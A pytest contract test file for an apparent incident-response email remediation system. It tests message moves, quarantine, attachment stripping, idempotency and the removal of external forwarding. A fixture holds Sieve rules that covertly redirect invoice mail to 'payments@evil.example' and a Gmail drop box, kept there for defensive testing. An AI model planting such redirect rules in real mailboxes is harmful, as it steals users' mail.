"""EmailSystem contract: every operation, undo round trips, notFound, idempotency, forwarding."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage

import pytest

from autoir.domain.errors import ConnectorRejected, ConnectorUnavailable
from autoir.mime.identity import derive_network_message_id
from autoir.ports.remediation import (
    EmailOperation,
    ForwardingChange,
    MessageOutcome,
    MessageRef,
    MessageStatus,
)
from tests.contract.conftest import EmailHarness

ALICE = "alice@contoso.com"
BOB = "bob@contoso.com"
INTERNAL = ("contoso.com",)
PAYLOAD = b"PK\x03\x04 macro-enabled invoice \x00\xff" * 20


def mail(number: int, *, attachment: bytes | None = None, name: str = "invoice.docm") -> bytes:
    """A real MIME message, optionally with one attachment."""
    message = EmailMessage()
    message["From"] = "billing@fabrikam.example"
    message["To"] = ALICE
    message["Subject"] = f"Invoice {number}"
    message["Message-ID"] = f"<invoice-{number}@fabrikam.example>"
    message.set_content(f"Please find invoice {number} attached.\n")
    if attachment is not None:
        message.add_attachment(
            attachment, maintype="application", subtype="octet-stream", filename=name
        )
        message.set_boundary(f"invoice-{number}-parts")  # same bytes every time: same id
    return message.as_bytes(policy=policy.SMTP)  # CRLF line ends, as mail travels and is stored


def nm(number: int, attachment: bytes | None = None) -> str:
    """The network message id of the copy :func:`seed` delivers (derived from its bytes)."""
    return derive_network_message_id(mail(number, attachment=attachment))


def seed(
    harness: EmailHarness, mailbox: str, folder: str, number: int, attachment: bytes | None = None
) -> bytes:
    raw = mail(number, attachment=attachment)
    harness.deliver(
        mailbox, folder, nm(number, attachment), f"<invoice-{number}@fabrikam.example>", raw
    )
    return raw


def ref(
    mailbox: str, number: int, restore_to: str | None = None, *, attachment: bytes | None = None
) -> MessageRef:
    return MessageRef(mailbox, network_message_id=nm(number, attachment), restore_to=restore_to)


def snapshot(harness: EmailHarness, copies: list[tuple[str, int]]) -> dict[str, object]:
    return {
        f"{box}/{n}": (harness.folder_of(box, nm(n)), harness.raw(box, nm(n))) for box, n in copies
    }


def undo_ref(outcome: MessageOutcome) -> MessageRef:
    """The reference an undo is given: stored as JSON with the action, restored to the folder."""
    stored = MessageRef.from_json(outcome.ref.to_json())
    return replace(stored, restore_to=outcome.folder_before)


# --- moves and their undo --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("operation", "start", "target"),
    [
        (EmailOperation.SOFT_DELETE, "Inbox", "Deleted Items"),
        (EmailOperation.SOFT_DELETE, "Archive", "Deleted Items"),
        (EmailOperation.MOVE_TO_JUNK, "Inbox", "Junk"),
        (EmailOperation.MOVE_TO_INBOX, "Junk", "Inbox"),
    ],
)
def test_move_then_move_back_puts_copy_back_byte_for_byte(
    mailboxes: EmailHarness, operation: EmailOperation, start: str, target: str
) -> None:
    raw = seed(mailboxes, ALICE, start, 1)

    (outcome,) = mailboxes.system.apply("act-1", operation, [ref(ALICE, 1)])

    assert (outcome.status, outcome.folder_before, outcome.folder_after) == (
        MessageStatus.DONE,
        start,
        target,
    )
    assert mailboxes.folder_of(ALICE, nm(1)) == target
    assert mailboxes.messages(ALICE, start) == []

    (back,) = mailboxes.system.apply("act-2", EmailOperation.MOVE_BACK, [undo_ref(outcome)])

    assert (back.status, back.folder_before, back.folder_after) == (
        MessageStatus.DONE,
        target,
        start,
    )
    assert mailboxes.folder_of(ALICE, nm(1)) == start
    assert mailboxes.raw(ALICE, nm(1)) == raw


def test_move_back_without_restore_folder_fails_and_leaves_copy(mailboxes: EmailHarness) -> None:
    seed(mailboxes, ALICE, "Junk", 1)

    (outcome,) = mailboxes.system.apply("act-1", EmailOperation.MOVE_BACK, [ref(ALICE, 1)])

    assert outcome.status is MessageStatus.FAILED
    assert mailboxes.folder_of(ALICE, nm(1)) == "Junk"


def test_apply_locates_copy_by_internet_message_id_in_any_folder(mailboxes: EmailHarness) -> None:
    seed(mailboxes, ALICE, "Projects/Suppliers", 7)
    by_header = MessageRef(ALICE, internet_message_id="<invoice-7@fabrikam.example>")

    (outcome,) = mailboxes.system.apply("act-1", EmailOperation.MOVE_TO_JUNK, [by_header])

    assert (outcome.status, outcome.folder_before) == (MessageStatus.DONE, "Projects/Suppliers")
    assert mailboxes.folder_of(ALICE, nm(7)) == "Junk"


def test_apply_leaves_other_messages_and_mailboxes_untouched(mailboxes: EmailHarness) -> None:
    seed(mailboxes, ALICE, "Inbox", 1)
    seed(mailboxes, ALICE, "Inbox", 2)
    seed(mailboxes, ALICE, "Archive", 3)
    seed(mailboxes, BOB, "Inbox", 1)  # the same campaign message in another mailbox
    others = [(ALICE, 2), (ALICE, 3), (BOB, 1)]
    before = snapshot(mailboxes, others)

    mailboxes.system.apply("act-1", EmailOperation.SOFT_DELETE, [ref(ALICE, 1)])
    mailboxes.system.apply("act-2", EmailOperation.QUARANTINE_ATTACHMENT, [ref(ALICE, 1)])
    mailboxes.system.apply("act-3", EmailOperation.HARD_DELETE, [ref(ALICE, 1)])

    assert snapshot(mailboxes, others) == before
    assert mailboxes.folder_of(ALICE, nm(1)) is None


def test_apply_returns_one_outcome_per_ref_in_order(mailboxes: EmailHarness) -> None:
    seed(mailboxes, ALICE, "Inbox", 1)
    seed(mailboxes, BOB, "Inbox", 2)
    refs = [ref(ALICE, 1), ref(ALICE, 99), ref(BOB, 2)]

    outcomes = mailboxes.system.apply("act-1", EmailOperation.MOVE_TO_JUNK, refs)

    assert [o.ref for o in outcomes] == refs
    assert [o.status for o in outcomes] == [
        MessageStatus.DONE,
        MessageStatus.NOT_FOUND,
        MessageStatus.DONE,
    ]
    assert mailboxes.messages(BOB, "Junk") == [nm(2)]


def test_apply_reports_copy_already_gone_as_not_found(mailboxes: EmailHarness) -> None:
    seed(mailboxes, ALICE, "Inbox", 1)
    mailboxes.system.apply("act-1", EmailOperation.HARD_DELETE, [ref(ALICE, 1)])

    for number, operation in enumerate(EmailOperation, start=2):
        (outcome,) = mailboxes.system.apply(f"act-{number}", operation, [ref(ALICE, 1, "Inbox")])
        assert outcome.status is MessageStatus.NOT_FOUND, operation
        assert (outcome.folder_before, outcome.folder_after) == (None, None)
    assert mailboxes.folder_of(ALICE, nm(1)) is None


def test_apply_reports_progress_for_every_copy(mailboxes: EmailHarness) -> None:
    for number in range(1, 4):
        seed(mailboxes, ALICE, "Inbox", number)
    calls: list[tuple[int, int]] = []

    mailboxes.system.apply(
        "act-1",
        EmailOperation.SOFT_DELETE,
        [ref(ALICE, n) for n in range(1, 4)],
        progress=lambda done, total: calls.append((done, total)),
    )

    assert calls[-1] == (3, 3)
    assert [done for done, _ in calls] == sorted(done for done, _ in calls)


# --- idempotency -----------------------------------------------------------------------------


def test_apply_repeated_action_id_returns_first_outcomes_without_moving_again(
    mailboxes: EmailHarness,
) -> None:
    raw = seed(mailboxes, ALICE, "Inbox", 1)
    first = mailboxes.system.apply("act-1", EmailOperation.SOFT_DELETE, [ref(ALICE, 1)])
    mailboxes.system.apply("act-2", EmailOperation.MOVE_BACK, [undo_ref(first[0])])

    again = mailboxes.system.apply("act-1", EmailOperation.SOFT_DELETE, [ref(ALICE, 1)])

    assert again == first
    assert mailboxes.folder_of(ALICE, nm(1)) == "Inbox"
    assert mailboxes.raw(ALICE, nm(1)) == raw


def test_quarantine_repeated_action_id_does_not_quarantine_released_copy(
    mailboxes: EmailHarness,
) -> None:
    seed(mailboxes, ALICE, "Inbox", 1)
    first = mailboxes.system.apply("act-1", EmailOperation.QUARANTINE, [ref(ALICE, 1)])
    mailboxes.system.apply("act-2", EmailOperation.RELEASE, [undo_ref(first[0])])

    assert mailboxes.system.apply("act-1", EmailOperation.QUARANTINE, [ref(ALICE, 1)]) == first
    assert mailboxes.folder_of(ALICE, nm(1)) == "Inbox"
    assert not mailboxes.is_quarantined(ALICE, nm(1))


# --- hard delete -----------------------------------------------------------------------------


def test_hard_delete_removes_copy_and_keeps_sealed_copy_for_the_retention(
    mailboxes: EmailHarness,
) -> None:
    raw = seed(mailboxes, ALICE, "Inbox", 1)

    (outcome,) = mailboxes.system.apply("act-1", EmailOperation.HARD_DELETE, [ref(ALICE, 1)])

    assert (outcome.status, outcome.folder_before, outcome.folder_after) == (
        MessageStatus.DONE,
        "Inbox",
        None,
    )
    assert outcome.retained_copy
    assert mailboxes.folder_of(ALICE, nm(1)) is None
    assert mailboxes.sealed(ALICE) == [raw]
    mailboxes.advance(mailboxes.retention - timedelta(hours=1))
    assert mailboxes.sealed(ALICE) == [raw]
    mailboxes.advance(timedelta(hours=2))
    assert mailboxes.sealed(ALICE) == []


# --- quarantine ------------------------------------------------------------------------------


def test_quarantine_then_release_puts_copy_back_in_its_folder(mailboxes: EmailHarness) -> None:
    raw = seed(mailboxes, ALICE, "Archive", 1)

    (held,) = mailboxes.system.apply("act-1", EmailOperation.QUARANTINE, [ref(ALICE, 1)])

    assert (held.status, held.folder_before) == (MessageStatus.DONE, "Archive")
    assert held.folder_after is not None
    assert mailboxes.folder_of(ALICE, nm(1)) is None
    assert mailboxes.is_quarantined(ALICE, nm(1))

    (released,) = mailboxes.system.apply("act-2", EmailOperation.RELEASE, [undo_ref(held)])

    assert (released.status, released.folder_after) == (MessageStatus.DONE, "Archive")
    assert mailboxes.folder_of(ALICE, nm(1)) == "Archive"
    assert mailboxes.raw(ALICE, nm(1)) == raw
    assert not mailboxes.is_quarantined(ALICE, nm(1))


def test_release_of_copy_not_in_quarantine_is_not_found(mailboxes: EmailHarness) -> None:
    seed(mailboxes, ALICE, "Inbox", 1)

    (outcome,) = mailboxes.system.apply("act-1", EmailOperation.RELEASE, [ref(ALICE, 1, "Inbox")])

    assert outcome.status is MessageStatus.NOT_FOUND
    assert mailboxes.folder_of(ALICE, nm(1)) == "Inbox"


# --- attachment quarantine -------------------------------------------------------------------


def _mime_attachments(raw: bytes) -> list[tuple[str | None, bytes]]:
    parsed = message_from_bytes(raw, policy=policy.default)
    return [(part.get_filename(), part.get_content()) for part in parsed.iter_attachments()]


def test_quarantine_attachment_swaps_attachments_for_notice_and_restore_puts_original_back(
    mailboxes: EmailHarness,
) -> None:
    raw = seed(mailboxes, ALICE, "Inbox", 1, attachment=PAYLOAD)
    original_attachments = mailboxes.attachments(ALICE, nm(1, PAYLOAD))
    assert original_attachments == [("invoice.docm", PAYLOAD)]

    (outcome,) = mailboxes.system.apply(
        "act-1", EmailOperation.QUARANTINE_ATTACHMENT, [ref(ALICE, 1, attachment=PAYLOAD)]
    )

    assert (outcome.status, outcome.folder_before, outcome.folder_after) == (
        MessageStatus.DONE,
        "Inbox",
        "Inbox",
    )
    assert outcome.retained_copy
    stripped = mailboxes.attachments(ALICE, nm(1, PAYLOAD))
    assert stripped
    assert all(data and data != PAYLOAD for _, data in stripped)
    stripped_raw = mailboxes.raw(ALICE, nm(1, PAYLOAD))
    assert stripped_raw is not None
    assert stripped_raw != raw
    assert all(content != PAYLOAD for _, content in _mime_attachments(stripped_raw))

    (restored,) = mailboxes.system.apply(
        "act-2", EmailOperation.RESTORE_ATTACHMENT, [undo_ref(outcome)]
    )

    assert restored.status is MessageStatus.DONE
    assert mailboxes.folder_of(ALICE, nm(1, PAYLOAD)) == "Inbox"
    assert mailboxes.raw(ALICE, nm(1, PAYLOAD)) == raw
    assert mailboxes.attachments(ALICE, nm(1, PAYLOAD)) == original_attachments


def test_restore_attachment_without_quarantined_original_is_not_found(
    mailboxes: EmailHarness,
) -> None:
    raw = seed(mailboxes, ALICE, "Inbox", 1, attachment=PAYLOAD)

    (outcome,) = mailboxes.system.apply(
        "act-1", EmailOperation.RESTORE_ATTACHMENT, [ref(ALICE, 1, attachment=PAYLOAD)]
    )

    assert outcome.status is MessageStatus.NOT_FOUND
    assert mailboxes.raw(ALICE, nm(1, PAYLOAD)) == raw


def test_quarantine_attachment_repeated_action_id_does_not_strip_restored_copy(
    mailboxes: EmailHarness,
) -> None:
    raw = seed(mailboxes, ALICE, "Inbox", 1, attachment=PAYLOAD)
    first = mailboxes.system.apply(
        "act-1", EmailOperation.QUARANTINE_ATTACHMENT, [ref(ALICE, 1, attachment=PAYLOAD)]
    )
    mailboxes.system.apply("act-2", EmailOperation.RESTORE_ATTACHMENT, [undo_ref(first[0])])

    again = mailboxes.system.apply(
        "act-1", EmailOperation.QUARANTINE_ATTACHMENT, [ref(ALICE, 1, attachment=PAYLOAD)]
    )

    assert again == first
    assert mailboxes.raw(ALICE, nm(1, PAYLOAD)) == raw


# --- errors ----------------------------------------------------------------------------------


def test_apply_with_injected_transient_failure_raises_unavailable_and_changes_nothing(
    mailboxes: EmailHarness,
) -> None:
    seed(mailboxes, ALICE, "Inbox", 1)
    mailboxes.fail_next(1)

    with pytest.raises(ConnectorUnavailable):
        mailboxes.system.apply("act-1", EmailOperation.SOFT_DELETE, [ref(ALICE, 1)])

    assert mailboxes.folder_of(ALICE, nm(1)) == "Inbox"
    (retried,) = mailboxes.system.apply("act-1", EmailOperation.SOFT_DELETE, [ref(ALICE, 1)])
    assert retried.status is MessageStatus.DONE
    assert mailboxes.folder_of(ALICE, nm(1)) == "Deleted Items"


def test_apply_with_injected_permanent_failure_raises_rejected(mailboxes: EmailHarness) -> None:
    seed(mailboxes, ALICE, "Inbox", 1)
    mailboxes.fail_next(2, transient=False)

    for attempt in range(2):
        with pytest.raises(ConnectorRejected):
            mailboxes.system.apply(f"act-{attempt}", EmailOperation.QUARANTINE, [ref(ALICE, 1)])

    assert mailboxes.folder_of(ALICE, nm(1)) == "Inbox"


# --- forwarding ------------------------------------------------------------------------------


def forwarding_configured(harness: EmailHarness) -> bool:
    """Whether the system has a forwarding backend; without one both calls must be refused.

    An adapter without it (the IMAP connector before its ManageSieve delegate is given) has to
    say so with ``ConnectorRejected``, never act as if it had changed something.
    """
    if harness.supports_forwarding:
        return True
    with pytest.raises(ConnectorRejected, match="not configured"):
        harness.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)
    with pytest.raises(ConnectorRejected, match="not configured"):
        harness.system.restore_forwarding("act-2", ForwardingChange(ALICE, ("x@evil.example",)))
    return False


RULES = {
    "main": (
        'require ["vacation", "fileinto", "copy"];\n'
        'if header :contains "subject" "invoice" {\n'
        '  redirect "payments@evil.example";\n'
        "}\n"
        'redirect :copy "assistant@contoso.com";\n'
        'fileinto "Archive";\n'
        'vacation :days 7 "I am away until Monday.";\n'
    ),
    "team": 'redirect "bob@sales.contoso.com";\nredirect "drop.box@gmail.com";\n',
}


def test_turn_off_external_forwarding_removes_only_external_redirects(
    mailboxes: EmailHarness,
) -> None:
    if not forwarding_configured(mailboxes):
        return
    mailboxes.set_rules(ALICE, RULES)

    change = mailboxes.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)

    assert sorted(change.removed) == ["drop.box@gmail.com", "payments@evil.example"]
    assert dict(change.previous) == RULES
    after = mailboxes.rules(ALICE)
    text = "".join(after.values())
    assert "evil.example" not in text
    assert "gmail.com" not in text
    assert 'redirect :copy "assistant@contoso.com";' in after["main"]
    assert 'redirect "bob@sales.contoso.com";' in after["team"]
    assert 'vacation :days 7 "I am away until Monday.";' in after["main"]
    assert 'fileinto "Archive";' in after["main"]


def test_restore_forwarding_puts_rules_back_exactly(mailboxes: EmailHarness) -> None:
    if not forwarding_configured(mailboxes):
        return
    mailboxes.set_rules(ALICE, RULES)
    change = mailboxes.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)

    mailboxes.system.restore_forwarding("act-2", ForwardingChange.from_json(change.to_json()))

    assert mailboxes.rules(ALICE) == RULES


def test_turn_off_external_forwarding_repeated_action_id_returns_first_change(
    mailboxes: EmailHarness,
) -> None:
    if not forwarding_configured(mailboxes):
        return
    mailboxes.set_rules(ALICE, RULES)
    first = mailboxes.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)
    mailboxes.system.restore_forwarding("act-2", first)

    again = mailboxes.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)
    mailboxes.system.restore_forwarding("act-2", first)

    assert again == first
    assert mailboxes.rules(ALICE) == RULES


def test_turn_off_external_forwarding_without_external_redirects_changes_nothing(
    mailboxes: EmailHarness,
) -> None:
    if not forwarding_configured(mailboxes):
        return
    internal_only = {"main": 'redirect "bob@contoso.com";\nvacation "Away";\n'}
    mailboxes.set_rules(ALICE, internal_only)

    change = mailboxes.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)

    assert change.removed == ()
    assert mailboxes.rules(ALICE) == internal_only


def test_turn_off_external_forwarding_leaves_other_mailboxes_alone(mailboxes: EmailHarness) -> None:
    if not forwarding_configured(mailboxes):
        return
    mailboxes.set_rules(ALICE, RULES)
    mailboxes.set_rules(BOB, RULES)

    mailboxes.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)

    assert mailboxes.rules(BOB) == RULES


def test_forwarding_with_injected_failure_raises_unavailable_and_changes_nothing(
    mailboxes: EmailHarness,
) -> None:
    if not forwarding_configured(mailboxes):
        return
    mailboxes.set_rules(ALICE, RULES)
    mailboxes.fail_next(1)

    with pytest.raises(ConnectorUnavailable):
        mailboxes.system.turn_off_external_forwarding("act-1", ALICE, INTERNAL)

    assert mailboxes.rules(ALICE) == RULES
